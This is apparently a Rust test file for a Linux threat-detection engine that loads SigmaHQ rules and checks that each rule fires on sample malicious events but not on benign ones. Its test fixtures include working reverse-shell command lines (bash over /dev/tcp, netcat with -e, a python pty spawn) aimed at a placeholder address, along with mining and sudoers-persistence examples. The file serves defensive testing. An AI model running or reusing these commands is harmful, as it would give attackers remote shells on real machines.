//! SigmaHQ's Linux rules load as they are and fire on matching Ward events.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use serde_json::{Value, json};
use ward_detect::event::Event;
use ward_detect::rulestest::event_from_partial;
use ward_detect::{Detector, load_dir};

fn sigmahq() -> (Detector, Vec<ward_detect::RuleError>, usize) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigmahq/linux");
    let (files, mut errors) = load_dir(&dir).unwrap();
    let n = files.len();
    let (det, e) = Detector::load(&files);
    errors.extend(e);
    (det, errors, n)
}

#[test]
fn all_sigmahq_linux_rules_load() {
    let (det, errors, files) = sigmahq();
    assert_eq!(files, 210);
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(det.stats().loaded, 210);
    // The five `category: network_connection` rules run on the network sensor's events.
    assert_eq!(det.stats().inactive, 0);
}

fn event(v: Value) -> Event {
    let Value::Object(m) = v else { panic!("not a map") };
    event_from_partial(1_700_000_000_000, m).unwrap()
}

fn process(exe: &str, cmdline: &str) -> Value {
    json!({"kind": "process", "pid": 100, "ppid": 1, "user": "alice", "uid": 1000, "exe": exe, "cmdline": cmdline,
           "cwd": "/home/alice", "parent_exe": "/usr/bin/bash", "parent_cmdline": "-bash"})
}

fn audit(record_type: &str, record_types: &[&str], fields: Value) -> Value {
    json!({"kind": "audit", "serial": 9, "record_type": record_type, "record_types": record_types, "fields": fields})
}

fn connect(exe: &str, dst: &str, port: u16) -> Value {
    json!({"kind": "network", "op": "connect", "source_ip": "10.0.0.5", "source_port": 40000,
           "destination_ip": dst, "destination_port": port,
           "process": {"pid": 200, "exe": exe, "cmdline": exe, "user": "www-data", "uid": 33}})
}

/// The one helper: `rule` fires on `tp` and not on `fp`. Mismatches are collected.
fn check(det: &Detector, rule: &str, tp: Value, fp: Value, failures: &mut Vec<String>) {
    let fires = |v: &Value| det.evaluate(&event(v.clone())).iter().any(|d| d.rule.id == rule);
    if !fires(&tp) {
        failures.push(format!("{rule} did not fire on {tp}"));
    }
    if fires(&fp) {
        failures.push(format!("{rule} fired on benign {fp}"));
    }
}

#[test]
fn chosen_sigmahq_rules_fire_on_matching_events_only() {
    let (det, _, _) = sigmahq();
    let mut failures = Vec::new();
    let mut c = |rule: &str, tp: Value, fp: Value| check(&det, rule, tp, fp, &mut failures);

    // network_connection, from the network sensor's events as they are
    c(
        "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871", // Linux Reverse Shell Indicator
        connect("/usr/bin/bash", "203.0.113.7", 4242),
        connect("/usr/bin/bash", "127.0.0.1", 4242),
    );
    c(
        "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376", // Potentially Suspicious Malware Callback Communication
        connect("/usr/bin/python3", "203.0.113.7", 4444),
        connect("/usr/bin/python3", "192.168.1.7", 4444),
    );
    c(
        "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376",
        connect("/usr/bin/python3", "2001:db8::7", 2222),
        json!({"kind": "network", "op": "accept", "source_ip": "203.0.113.7", "source_port": 51000,
               "destination_ip": "10.0.0.5", "destination_port": 4444,
               "process": {"pid": 200, "exe": "/usr/sbin/sshd"}}),
    );

    // process_creation
    c(
        "e2072cab-8c9a-459b-b63c-40ae79e27031", // Decode Base64 Encoded Text
        process("/usr/bin/base64", "base64 -d /tmp/p.b64"),
        process("/usr/bin/base64", "base64 /etc/hostname"),
    );
    c(
        "c4042d54-110d-45dd-a0e1-05c47822c937", // Python Spawning Pretty TTY
        process("/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/bash')"),
        process("/usr/bin/python3.11", "python3 -m http.client"),
    );
    c(
        "7f734ed0-4f47-46c0-837f-6ee62505abd9", // Potential Netcat Reverse Shell Execution
        process("/usr/bin/nc", "nc 203.0.113.7 4444 -e /bin/bash"),
        process("/usr/bin/nc", "nc -zv 10.0.0.1 22"),
    );
    c(
        "9069ea3c-b213-4c52-be13-86506a227ab1", // Linux Crypto Mining Indicators
        process("/tmp/x", "./x -o stratum+tcp://pool.example:3333"),
        process("/usr/bin/curl", "curl -o out.json https://example.com/pool.json"),
    );
    let mut omigod = process("/bin/sh", "sh -c /etc/opt/microsoft/scx/conf/tmpdir/scx-1");
    omigod["user"] = json!("root");
    omigod["uid"] = json!(0);
    omigod["cwd"] = json!("/var/opt/microsoft/scx/tmp");
    let mut omigod_fp = omigod.clone();
    omigod_fp["uid"] = json!(1000);
    c("6eea1bf6-f8d2-488a-a742-e6ef6c1b67db", omigod, omigod_fp); // OMIGOD SCX RunAsProvider ExecuteScript (User, LogonId, CurrentDirectory)

    // file_event
    c(
        "13f08f54-e705-4498-91fd-cce9d9cee9f1", // Potentially Suspicious Shell Script Creation in Profile Folder
        json!({"kind": "file", "op": "create", "path": "/etc/profile.d/x.sh"}),
        json!({"kind": "file", "op": "create", "path": "/etc/profile"}),
    );
    c(
        "ddb26b76-4447-4807-871f-1b035b2bfa5d", // Persistence Via Sudoers Files
        json!({"kind": "file", "op": "create", "path": "/etc/sudoers.d/backdoor"}),
        json!({"kind": "file", "op": "delete", "path": "/etc/sudoers.d/backdoor"}),
    );

    // auditd
    c(
        "4b3cb710-5e83-4715-8c45-8b2b5b3e5751", // Modification of ld.so.preload (PATH record)
        audit(
            "SYSCALL",
            &["SYSCALL", "CWD", "PATH"],
            json!({"name": "/etc/ld.so.preload", "exe": "/usr/bin/vi", "pid": "77"}),
        ),
        audit(
            "SYSCALL",
            &["SYSCALL", "CWD", "PATH"],
            json!({"name": "/etc/ld.so.conf", "exe": "/usr/bin/vi", "pid": "77"}),
        ),
    );
    c(
        "710bdbce-495d-491d-9a8f-7d0d88d2b41e", // Special File Creation via Mknod Syscall
        audit(
            "SYSCALL",
            &["SYSCALL"],
            json!({"syscall": "mknod", "exe": "/usr/bin/mknod"}),
        ),
        audit(
            "SYSCALL",
            &["SYSCALL"],
            json!({"syscall": "133", "exe": "/usr/bin/mknod"}),
        ),
    );
    c(
        "071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed", // Possible Coin Miner CPU Priority Param
        audit(
            "EXECVE",
            &["SYSCALL", "EXECVE"],
            json!({"argc": "3", "a0": "./miner", "a1": "--cpu-priority=5", "a2": "-B"}),
        ),
        audit(
            "EXECVE",
            &["SYSCALL", "EXECVE"],
            json!({"argc": "2", "a0": "nice", "a1": "-n5"}),
        ),
    );

    // keyword rules on auth lines and command lines
    c(
        "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc", // Suspicious OpenSSH Daemon Error
        json!({"kind": "auth", "service": "sshd", "message": "fatal: Corrupted MAC on input. [preauth]"}),
        json!({"kind": "auth", "service": "sshd", "message": "Accepted publickey for alice from 192.0.2.1 port 5000 ssh2"}),
    );
    c(
        "af202fd3-7bff-4212-a25a-fb34606cfcbe", // Modifying Crontab (service: cron)
        json!({"kind": "auth", "service": "cron", "message": "(root) REPLACE (root)"}),
        json!({"kind": "auth", "service": "sshd", "message": "(root) REPLACE (root)"}),
    );
    c(
        "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e", // Privileged User Account Creation (product: linux only)
        json!({"kind": "auth", "service": "useradd", "message": "new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash"}),
        json!({"kind": "auth", "service": "useradd", "message": "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash"}),
    );
    c(
        "6cc5fceb-9a71-4c23-aeeb-963abe0b279c", // Suspicious Use of /dev/tcp (keywords over the command line)
        process("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        process("/usr/bin/cat", "cat /proc/net/tcp"),
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn benign_everyday_events_fire_nothing_high() {
    let (det, _, _) = sigmahq();
    let benign = [
        process("/usr/bin/ls", "ls -la"),
        process("/usr/bin/git", "git status"),
        process("/usr/bin/cargo", "cargo build -p ward-agent"),
        json!({"kind": "file", "op": "modify", "path": "/home/alice/notes.txt"}),
        json!({"kind": "auth", "service": "sshd", "message": "Accepted publickey for alice from 192.0.2.1 port 5000 ssh2"}),
        audit(
            "SYSCALL",
            &["SYSCALL"],
            json!({"syscall": "openat", "exe": "/usr/bin/ls", "name": "/home/alice"}),
        ),
    ];
    for b in benign {
        let fired: Vec<String> = det
            .evaluate(&event(b.clone()))
            .into_iter()
            .filter(|d| d.rule.severity >= ward_protocol::Severity::Medium)
            .map(|d| d.rule.title)
            .collect();
        assert!(fired.is_empty(), "{b}: {fired:?}");
    }
}
